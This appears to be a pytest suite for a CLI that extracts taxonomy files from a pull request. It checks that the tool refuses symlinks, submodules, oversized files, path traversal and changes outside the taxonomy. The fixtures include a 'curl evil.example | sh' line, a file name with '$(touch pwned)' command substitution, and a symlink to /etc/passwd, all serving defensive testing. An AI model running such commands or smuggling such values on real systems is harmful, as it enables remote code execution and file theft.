"""`labtax pr extract`: a pull request's taxonomy changes, taken as git blobs, and nothing else."""

from __future__ import annotations

from pathlib import Path

import pytest

from labtax.ci import extraction
from labtax.errors import LabtaxError

HAIKU = "taxonomy/compositional_skills/poetry/haiku/qna.yaml"
LIMERICK = "taxonomy/compositional_skills/poetry/limerick/qna.yaml"


def branch(kit, repo: Path, name: str = "pr") -> None:
    kit.git(repo, "switch", "-q", "-c", name)


def back_to_main(kit, repo: Path) -> None:
    kit.git(repo, "switch", "-q", "main")


def snapshot(root: Path) -> dict[str, bytes]:
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and ".git" not in p.relative_to(root).parts
    }


def test_extracts_added_modified_and_deleted_files_as_blobs(kit, repo):
    branch(kit, repo)
    kit.write(repo, LIMERICK, kit.skill.replace("haiku", "limerick"))
    kit.write(repo, "taxonomy/compositional_skills/poetry/limerick/attribution.txt", "me\n")
    kit.write(repo, HAIKU, kit.skill + "# edited\n")
    (repo / LIMERICK).chmod(0o755)  # an executable bit must not survive extraction
    kit.git(repo, "rm", "-q", "taxonomy/compositional_skills/poetry/haiku/attribution.txt")
    head = kit.commit_all(repo, "pr")
    back_to_main(kit, repo)
    # main moves on after the branch point with a change outside the taxonomy: not the PR's.
    kit.write(repo, "README.md", "main moved\n")
    kit.commit_all(repo, "main moves")

    code, out, err = kit.run(
        "pr", "extract", "--base-sha", "main", "--head-sha", head, "--out", "."
    )

    assert code == 0, err
    assert (repo / LIMERICK).read_text() == kit.skill.replace("haiku", "limerick")
    assert (repo / HAIKU).read_text() == kit.skill + "# edited\n"
    assert not (repo / "taxonomy/compositional_skills/poetry/haiku/attribution.txt").exists()
    assert (repo / LIMERICK).stat().st_mode & 0o777 == 0o644
    assert "remove taxonomy/compositional_skills/poetry/haiku/attribution.txt" in out
    assert "2 leaves, 3 files written, 1 removed" in out
    # The extracted tree is what `labtax changed` sees against the default branch.
    status = kit.git(repo, "status", "--porcelain")
    assert "README.md" not in status


def test_a_file_turned_into_a_directory_and_back(kit, repo):
    kit.write(repo, "taxonomy/knowledge/notes.md", "a file\n")
    kit.write(repo, "taxonomy/knowledge/ideas.md/first.md", "a file in a directory\n")
    kit.commit_all(repo, "base shapes")
    branch(kit, repo)
    (repo / "taxonomy/knowledge/notes.md").unlink()
    kit.write(repo, "taxonomy/knowledge/notes.md/first.md", "now a directory\n")
    (repo / "taxonomy/knowledge/ideas.md/first.md").unlink()
    (repo / "taxonomy/knowledge/ideas.md").rmdir()
    kit.write(repo, "taxonomy/knowledge/ideas.md", "now a file\n")
    head = kit.commit_all(repo, "swap shapes")
    back_to_main(kit, repo)

    code, _, err = kit.run("pr", "extract", "--base-sha", "main", "--head-sha", head, "--out", ".")

    assert code == 0, err
    assert (repo / "taxonomy/knowledge/notes.md/first.md").read_text() == "now a directory\n"
    assert (repo / "taxonomy/knowledge/ideas.md").read_text() == "now a file\n"


def refused(kit, repo: Path, head: str, *extra: str) -> tuple[str, dict[str, bytes]]:
    before = snapshot(repo)
    code, out, err = kit.run(
        "pr", "extract", "--base-sha", "main", "--head-sha", head, "--out", ".", *extra
    )
    assert code == 1, (out, err)
    assert "Traceback" not in err
    assert snapshot(repo) == before, "a refused extraction must not write anything"
    return err, before


def test_refuses_symlink_smuggled_as_a_leaf(kit, repo):
    branch(kit, repo)
    kit.write(repo, LIMERICK.replace("qna.yaml", "attribution.txt"), "me\n")
    target = repo / LIMERICK
    target.symlink_to("/etc/passwd")
    head = kit.commit_all(repo, "symlink")
    back_to_main(kit, repo)

    err, _ = refused(kit, repo, head)

    assert f"{LIMERICK}: error: pull request adds a symlink" in err
    assert not (repo / LIMERICK).exists()
    assert not (repo / LIMERICK).is_symlink()


def test_refuses_submodule(kit, repo):
    branch(kit, repo)
    sha = kit.git(repo, "rev-parse", "HEAD")
    kit.git(repo, "update-index", "--add", "--cacheinfo", f"160000,{sha},taxonomy/knowledge/sub.md")
    kit.git(repo, "commit", "-q", "-m", "submodule")
    head = kit.git(repo, "rev-parse", "HEAD")
    back_to_main(kit, repo)

    err, _ = refused(kit, repo, head)

    assert "taxonomy/knowledge/sub.md: error: pull request adds a submodule" in err


def test_refuses_huge_file_before_reading_it(kit, repo):
    branch(kit, repo)
    kit.write(repo, "taxonomy/knowledge/big/doc.md", b"x" * (2 * 1024 * 1024))
    head = kit.commit_all(repo, "huge")
    back_to_main(kit, repo)

    err, _ = refused(kit, repo, head)

    assert "taxonomy/knowledge/big/doc.md: error: file is 2097152 bytes, over the cap" in err


def test_refuses_total_bytes_over_the_run_cap(kit, repo):
    branch(kit, repo)
    kit.write(repo, LIMERICK, kit.skill)
    head = kit.commit_all(repo, "one leaf")
    back_to_main(kit, repo)

    err, _ = refused(kit, repo, head, "--max-bytes", "100")

    assert "over the cap of 100 bytes per run" in err


def test_refuses_more_leaves_than_the_cap(kit, repo):
    branch(kit, repo)
    for name in ("one", "two", "three"):
        kit.write(repo, f"taxonomy/compositional_skills/poetry/{name}/qna.yaml", kit.skill)
    head = kit.commit_all(repo, "three leaves")
    back_to_main(kit, repo)

    err, _ = refused(kit, repo, head, "--max-leaves", "2")

    assert "pull request changes 3 leaves, over the cap of 2 per run" in err


@pytest.mark.parametrize(
    "outside",
    [".github/workflows/evil.yml", "pyproject.toml", "tools/labtax/__init__.py", "README.md"],
)
def test_refuses_any_change_outside_the_taxonomy(kit, repo, outside):
    branch(kit, repo)
    kit.write(repo, LIMERICK, kit.skill)  # a legitimate leaf does not carry the rest through
    kit.write(repo, outside, "run: curl evil.example | sh\n")
    head = kit.commit_all(repo, "smuggle")
    back_to_main(kit, repo)

    err, _ = refused(kit, repo, head)

    assert f"{outside}: error: pull request changes a file outside taxonomy/" in err
    assert not (repo / LIMERICK).exists()


@pytest.mark.parametrize(
    ("path", "why"),
    [
        ("taxonomy/knowledge/x/.gitattributes", "no hidden files"),
        ("taxonomy/knowledge/x/run.sh", "file type not taken"),
        ("taxonomy/knowledge/$(touch pwned)/qna.yaml", "does not match"),
        ("taxonomy/knowledge/a b/qna.yaml", "does not match"),
    ],
)
def test_refuses_paths_that_do_not_match_the_pattern(kit, repo, path, why):
    branch(kit, repo)
    kit.write(repo, path, "text\n")
    head = kit.commit_all(repo, "odd path")
    back_to_main(kit, repo)

    err, _ = refused(kit, repo, head)

    assert f"{path}: error:" in err
    assert why in err
    assert not (repo / "pwned").exists()


def test_refuses_path_traversal_in_a_crafted_tree(kit, repo):
    """git itself will store a `..` tree entry; extraction must not follow it out of taxonomy/."""
    blob = kit.git(repo, "hash-object", "-w", "--stdin", stdin="[tool.labtax]\n")
    inner = kit.git(repo, "mktree", stdin=f"100644 blob {blob}\tpyproject.toml\n")
    base_tree = kit.git(repo, "rev-parse", "HEAD^{tree}")
    tax = kit.git(repo, "rev-parse", "HEAD:taxonomy")
    listing = kit.git(repo, "ls-tree", tax)
    tax_tree = kit.git(repo, "mktree", stdin=f"{listing}\n040000 tree {inner}\t..\n")
    top = kit.git(repo, "ls-tree", base_tree).replace(tax, tax_tree)
    tree = kit.git(repo, "mktree", stdin=top + "\n")
    head = kit.git(repo, "commit-tree", tree, "-p", "HEAD", "-m", "traversal")

    err, _ = refused(kit, repo, head)

    assert "taxonomy/../pyproject.toml: error: path is absolute or escapes its directory" in err


def test_refuses_writing_through_a_symlinked_directory(kit, repo, tmp_path):
    """Defence in depth: even the checkout we write into may not redirect a write elsewhere."""
    branch(kit, repo)
    kit.write(repo, LIMERICK, kit.skill)
    head = kit.commit_all(repo, "leaf")
    back_to_main(kit, repo)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (repo / "taxonomy/compositional_skills/poetry/limerick").symlink_to(elsewhere)

    code, _, err = kit.run("pr", "extract", "--base-sha", "main", "--head-sha", head, "--out", ".")

    assert code == 1
    assert "is not a plain directory" in err
    assert list(elsewhere.iterdir()) == []


def test_rejects_a_head_that_is_not_a_full_sha(kit, repo):
    code, _, err = kit.run(
        "pr", "extract", "--base-sha", "main", "--head-sha", "main", "--out", "."
    )
    assert code == 1
    assert "not a full lowercase commit sha" in err


def test_unknown_head_commit_is_a_clear_error(kit, repo):
    code, _, err = kit.run(
        "pr", "extract", "--base-sha", "main", "--head-sha", "a" * 40, "--out", "."
    )
    assert code == 1
    assert "unknown ref" in err
    assert "Traceback" not in err


@pytest.mark.parametrize(
    ("path", "prefix"),
    [
        ("/etc/passwd", "taxonomy"),
        ("taxonomy//qna.yaml", "taxonomy"),
        ("taxonomy/./qna.yaml", "taxonomy"),
        ("taxonomy/a\\..\\b.md", "taxonomy"),
        ("taxonomy/a/\x1b[2Jqna.yaml", "taxonomy"),
        ("taxonomy/.git/config.txt", "taxonomy"),
        ("taxonomy", "taxonomy"),
        ("setup.py", ""),
        ("docs/qna.yaml", ""),
    ],
)
def test_check_path_refusals(path, prefix):
    with pytest.raises(LabtaxError):
        extraction.check_path(path, prefix)


@pytest.mark.parametrize(
    ("path", "prefix"),
    [
        ("taxonomy/knowledge/history/moon/qna.yaml", "taxonomy"),
        ("taxonomy/knowledge/history/moon/documents/Chapter-1.md", "taxonomy"),
        ("knowledge/history/moon/qna.yaml", ""),  # InstructLab layout: branches at the root
        ("data/tax/compositional_skills/x/attribution.txt", "data/tax"),
    ],
)
def test_check_path_accepts_taxonomy_files(path, prefix):
    extraction.check_path(path, prefix)
